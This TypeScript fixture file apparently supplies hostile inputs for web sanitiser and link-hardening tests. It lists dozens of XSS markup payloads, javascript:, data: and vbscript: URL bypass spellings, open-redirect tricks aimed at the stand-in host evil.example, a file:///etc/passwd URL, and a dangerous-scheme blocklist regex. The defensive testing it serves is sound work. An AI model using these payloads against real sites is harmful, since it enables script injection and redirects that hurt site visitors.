/**
 * Hostile input for the hardening tests: URLs that would run script or leave the site, and HTML
 * that would run script, load something off-site or break out of an attribute. Every payload, if
 * it ever worked, sets `window.__pwned` (PWN_GLOBAL) or asks EVIL_HOST for something, so a test
 * only has to watch those two, plus dialogs and CSP reports.
 */

export const EVIL_HOST = 'evil.example';
export const EVIL = `https://${EVIL_HOST}/pwn`;
export const PWN_GLOBAL = '__pwned';
/** What a payload runs when it gets to run (no quotes or spaces, so it survives any context). */
export const PWN_JS = 'window.__pwned=1';

export interface Payload {
  /** A short stable name for test titles and fixture ids. */
  name: string;
  value: string;
}

const p = (name: string, value: string): Payload => ({ name, value });

/** Schemes that run script, in the spellings browsers still accept after their own clean-up. */
export const SCRIPT_URLS: readonly Payload[] = [
  p('js', `javascript:${PWN_JS}`),
  p('js-mixed-case', `JaVaScRiPt:${PWN_JS}`),
  p('js-upper', `JAVASCRIPT:${PWN_JS}`),
  p('js-tab', `java\tscript:${PWN_JS}`),
  p('js-newline', `java\nscript:${PWN_JS}`),
  p('js-cr', `java\rscript:${PWN_JS}`),
  p('js-leading-space', ` javascript:${PWN_JS}`),
  p('js-leading-nul', `\u0000javascript:${PWN_JS}`),
  p('js-leading-ctrl', `\u0001\u001fjavascript:${PWN_JS}`),
  p('js-leading-nbsp', `\u00a0javascript:${PWN_JS}`),
  p('js-leading-bom', `\ufeffjavascript:${PWN_JS}`),
  p('js-zero-width', `\u200bjavascript:${PWN_JS}`),
  p('js-percent-encoded', `%6A%61%76%61%73%63%72%69%70%74:${PWN_JS}`),
  p('js-partly-encoded', `%6A%61vascript:${PWN_JS}`),
  p('js-entity', `&#106;avascript:${PWN_JS}`),
  p('js-hex-entity', `&#x6A;avascript:${PWN_JS}`),
  p('js-colon-entity', `javascript&colon;${PWN_JS}`),
  p('js-colon-encoded', `javascript%3A${PWN_JS}`),
  p('js-comment', `javascript://%0a${PWN_JS}`),
  p('js-fullwidth-colon', `javascript\uff1a${PWN_JS}`),
  p('data-html', `data:text/html,<script>${PWN_JS}</script>`),
  p('data-html-base64', `data:text/html;base64,${btoa(`<script>${PWN_JS}</script>`)}`),
  p('data-svg', `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${PWN_JS}"/>`),
  p('data-upper', `DATA:text/html,<script>${PWN_JS}</script>`),
  p('vbscript', 'vbscript:msgbox(1)'),
  p('vbscript-mixed', 'VbScRiPt:msgbox(1)'),
  p('blob', `blob:https://${EVIL_HOST}/00000000-0000-0000-0000-000000000000`),
  p('file', 'file:///etc/passwd'),
  p('filesystem', `filesystem:https://${EVIL_HOST}/temporary/x`),
];

/** Links that would take the visitor to another host. */
export const REDIRECT_URLS: readonly Payload[] = [
  p('protocol-relative', `//${EVIL_HOST}/pwn`),
  p('protocol-relative-space', ` //${EVIL_HOST}/pwn`),
  p('slash-backslash', `/\\${EVIL_HOST}/pwn`),
  p('backslashes', `\\\\${EVIL_HOST}/pwn`),
  p('slash-tab-slash', `/\t/${EVIL_HOST}/pwn`),
  p('slash-newline-slash', `/\n/${EVIL_HOST}/pwn`),
  p('triple-slash', `///${EVIL_HOST}/pwn`),
  p('https', EVIL),
  p('https-upper', `HTTPS://${EVIL_HOST.toUpperCase()}/pwn`),
  p('http', `http://${EVIL_HOST}/pwn`),
  p('http-no-slashes', `http:${EVIL_HOST}/pwn`),
  p('https-no-slashes', `https:${EVIL_HOST}/pwn`),
  p('https-one-slash', `https:/${EVIL_HOST}/pwn`),
  p('https-backslashes', `https:\\\\${EVIL_HOST}/pwn`),
  p('credentials', `https://www.exchange.test@${EVIL_HOST}/pwn`),
  p('credentials-colon', `https://www.exchange.test:443@${EVIL_HOST}/pwn`),
  p('suffix-host', `https://www.exchange.test.${EVIL_HOST}/pwn`),
  p('lookalike-host', `https://exchange.test-${EVIL_HOST}/pwn`),
  p('fullwidth-dot', `https://${EVIL_HOST.replace('.', '\u3002')}/pwn`),
  p('hash-trick', `https://${EVIL_HOST}#.exchange.test`),
  p('query-trick', `https://${EVIL_HOST}?.exchange.test`),
  p('backslash-at', `https://${EVIL_HOST}\\@www.exchange.test`),
  p('encoded-slashes', `%2F%2F${EVIL_HOST}/pwn`),
  p('ip-address', 'https://127.0.0.2/pwn'),
  p('ftp', `ftp://${EVIL_HOST}/pwn`),
  p('mailto', `mailto:x@${EVIL_HOST}`),
  p('tel', 'tel:+1000'),
  p('relative-no-slash', `${EVIL_HOST}/pwn`),
];

export const HOSTILE_URLS: readonly Payload[] = [...SCRIPT_URLS, ...REDIRECT_URLS];

/** Markup that would run PWN_JS, load EVIL or rewrite the page if it reached the DOM unsanitised. */
export const HOSTILE_HTML: readonly Payload[] = [
  p('img-onerror', `<img src=x onerror=${PWN_JS}>`),
  p('img-onerror-quoted', `<img src="x" onerror="${PWN_JS}">`),
  p('svg-onload', `<svg onload=${PWN_JS}>`),
  p('svg-script', `<svg><script>${PWN_JS}</script></svg>`),
  p('svg-animate', `<svg><animate onbegin=${PWN_JS} attributeName=x dur=1s>`),
  p('svg-a-xlink', `<svg><a xlink:href="javascript:${PWN_JS}"><text y="20">x</text></a></svg>`),
  p('script', `<script>${PWN_JS}</script>`),
  p('script-src', `<script src="${EVIL}.js"></script>`),
  p('a-javascript', `<a href="javascript:${PWN_JS}">click</a>`),
  p('a-javascript-entity', `<a href="&#106;avascript:${PWN_JS}">click</a>`),
  p('a-javascript-tab', `<a href="java&#x09;script:${PWN_JS}">click</a>`),
  p('a-data', `<a href="data:text/html,<script>${PWN_JS}</script>">click</a>`),
  p('a-vbscript', '<a href="vbscript:msgbox(1)">click</a>'),
  p('a-evil', `<a href="${EVIL}">click</a>`),
  p('a-protocol-relative', `<a href="//${EVIL_HOST}/pwn">click</a>`),
  p('a-onclick', `<a href="/fee" onclick="${PWN_JS}">click</a>`),
  p('a-target-form', `<a href="/fee" target="_top" formaction="${EVIL}">click</a>`),
  p('iframe', `<iframe src="javascript:${PWN_JS}"></iframe>`),
  p('iframe-srcdoc', `<iframe srcdoc="<script>parent.${PWN_JS}</script>"></iframe>`),
  p('iframe-evil', `<iframe src="${EVIL}"></iframe>`),
  p('object', `<object data="javascript:${PWN_JS}"></object>`),
  p('embed', `<embed src="${EVIL}.swf">`),
  p('form', `<form action="${EVIL}"><button>go</button></form>`),
  p('button-formaction', `<button formaction="javascript:${PWN_JS}">go</button>`),
  p('input-autofocus', `<input autofocus onfocus=${PWN_JS}>`),
  p('details-ontoggle', `<details open ontoggle=${PWN_JS}>x</details>`),
  p('body-onload', `<body onload=${PWN_JS}>`),
  p('video-source', `<video><source onerror=${PWN_JS}></video>`),
  p('style-expression', `<div style="width:expression(${PWN_JS})">x</div>`),
  p('style-url', `<div style="background:url(javascript:${PWN_JS})">x</div>`),
  p('style-import', `<style>@import '${EVIL}.css';</style>`),
  p('link-stylesheet', `<link rel="stylesheet" href="${EVIL}.css">`),
  p('img-evil', `<img src="${EVIL}.png">`),
  p('base', `<base href="https://${EVIL_HOST}/">`),
  p('meta-refresh', `<meta http-equiv="refresh" content="0;url=${EVIL}">`),
  p('attr-breakout', `"><img src=x onerror=${PWN_JS}>`),
  p('attr-breakout-single', `'><svg onload=${PWN_JS}>`),
  p('title-breakout', `</title><script>${PWN_JS}</script>`),
  p('textarea-breakout', `</textarea><img src=x onerror=${PWN_JS}>`),
  p('noscript-mxss', `<noscript><p title="</noscript><img src=x onerror=${PWN_JS}>">`),
  p('math-mxss', `<math><mtext><table><mglyph><style><img src=x onerror=${PWN_JS}>`),
  p('template', `<template><script>${PWN_JS}</script></template>`),
  p('unknown-onclick', `<x-y onclick=${PWN_JS}>click</x-y>`),
  p('template-injection', "{{constructor.constructor('window.__pwned=1')()}}"),
  p('encoded-lt', `&lt;img src=x onerror=${PWN_JS}&gt;`),
];

/** Short strings that go into titles and labels (plain text fields: must show as text). */
export const HOSTILE_TEXT: readonly Payload[] = [
  ...HOSTILE_HTML.filter((h) => h.value.length <= 80),
  p('rtl-override', '\u202egnp.exe'),
  p('nul', 'a\u0000b'),
];

/** Every `on*` handler name the HTML payloads use: none may survive as an attribute. */
export const HANDLER_ATTRS = ['onerror', 'onload', 'onbegin', 'onclick', 'onfocus', 'ontoggle'] as const;
/** Schemes no rendered href, src, action or xlink:href may start with. */
export const BAD_SCHEME = /^\s*(javascript|data|vbscript|blob|file|filesystem):/i;
